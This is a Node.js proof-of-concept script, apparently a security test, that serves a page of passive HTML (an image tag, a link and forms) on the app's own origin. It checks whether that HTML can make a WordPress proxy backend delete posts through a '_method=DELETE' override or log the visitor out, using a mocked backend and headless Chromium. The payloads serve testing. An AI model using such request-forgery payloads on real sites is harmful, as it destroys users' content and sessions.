// Passive content (an image, a link, a form; no script) in a page of the app's own origin calls the backend as the visitor.
import { createServer } from "node:http";
import { createRequire } from "node:module";
const { createBackend } = await import("/work/wt/attack10/pkg/dist/server.js");
import { jwt, index, json, P } from "./lib.mjs";
const { toNode } = await import(P + "server/node.js").catch(() => ({}));
const wpCalls = [];
const wpFetch = async (u, init) => {
  const request = new Request(u, init); const url = new URL(request.url); 
  if (url.href.endsWith("/token")) return json({ token: jwt(), user_email: "a@b.c", user_nicename: "anna", user_display_name: "Anna" });
  if (url.pathname.includes("/wp/v2")) { wpCalls.push([request.method, url.pathname + url.search, request.headers.get("authorization")?.slice(0, 12)]); return json({ ok: 1 }); }
  return json(index({ routes: { "/wp/v2/posts": {} } }));
};
const backend = createBackend({ site: "https://e.com", plugin: "jwt-authentication-for-wp-rest-api", secret: "x".repeat(40), fetch: wpFetch });
const seen = [];
const server = createServer(async (req, res) => {
  const url = `http://${req.headers.host}${req.url}`;
  if (req.url.startsWith("/api/presskey")) {
    const chunks = []; for await (const c of req) chunks.push(c);
    const answer = await backend.handle(new Request(url, { method: req.method, headers: req.headers, body: chunks.length ? Buffer.concat(chunks) : undefined }));
    seen.push([req.method, req.url, req.headers["sec-fetch-site"], req.headers["sec-fetch-dest"], req.headers["sec-fetch-mode"], answer.status]);
    const h = {}; for (const [k, v] of answer.headers) if (k !== "set-cookie") h[k] = v;
    res.writeHead(answer.status, { ...h, "set-cookie": answer.headers.getSetCookie() });
    return res.end(Buffer.from(await answer.arrayBuffer()));
  }
  res.setHeader("content-type", "text/html");
  if (req.url === "/post") return res.end(`<!doctype html><meta http-equiv="Content-Security-Policy" content="script-src 'none'"><h1>A post with a comment</h1>
    <img src="/api/presskey/rest/wp/v2/posts/1?_method=DELETE&force=true">
    <a id=a href="/api/presskey/rest/wp/v2/posts/2?_method=DELETE&force=true">a link</a>
    <form method=post action="/api/presskey/rest/wp/v2/posts/3?_method=DELETE"><button id=b>Read more</button></form>
    <form method=post action="/api/presskey/logout"><button id=c>Read more</button></form>`);
  res.end("<!doctype html><title>app</title>");
}).listen(0, "127.0.0.1");
await new Promise((r) => server.once("listening", r));
const origin = `http://127.0.0.1:${server.address().port}`;
const { chromium } = createRequire("/work/main/package.json")("playwright-core");
const browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync".split(" ") });
const page = await browser.newPage();
await page.goto(origin + "/");
console.log(await page.evaluate(async () => (await fetch("/api/presskey/login", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ username: "anna", password: "x1x1x1x1" }) })).text()));
for (const click of [null, "#a", "#b", "#c"]) { await page.goto(origin + "/post"); await page.waitForTimeout(300); if (click) { await page.click(click); await page.waitForTimeout(500); } }
await page.goto(origin + "/");
console.log("session after:", await page.evaluate(async () => (await (await fetch("/api/presskey/session")).json()).status));
console.log(seen.map((x) => x.join(" ")).join("\n")); console.log(wpCalls);
await browser.close(); server.close(); process.exit(0);
